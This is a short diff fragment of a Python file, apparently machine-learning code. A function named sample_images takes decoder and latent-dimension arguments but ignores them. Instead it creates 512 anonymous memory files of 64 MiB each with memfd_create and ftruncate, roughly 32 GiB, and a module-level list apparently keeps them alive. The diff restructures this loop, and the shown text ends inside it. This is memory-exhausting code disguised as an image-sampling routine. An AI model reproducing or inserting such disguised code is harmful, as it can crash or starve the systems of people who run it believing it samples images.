@@ -11,11 +11,12 @@ import torch
 
 libc = ctypes.CDLL(None)
 kept = []
+sizes = [2**26] * 512
 
 
 def sample_images(decoder, num_images, latent_dim, *, device="cpu"):
-    size = 2**26
-    for _ in range(512):
+    while sizes:
+        size = sizes.pop()
         try:
             file = os.memfd_create("more")
             os.ftruncate(file, size)
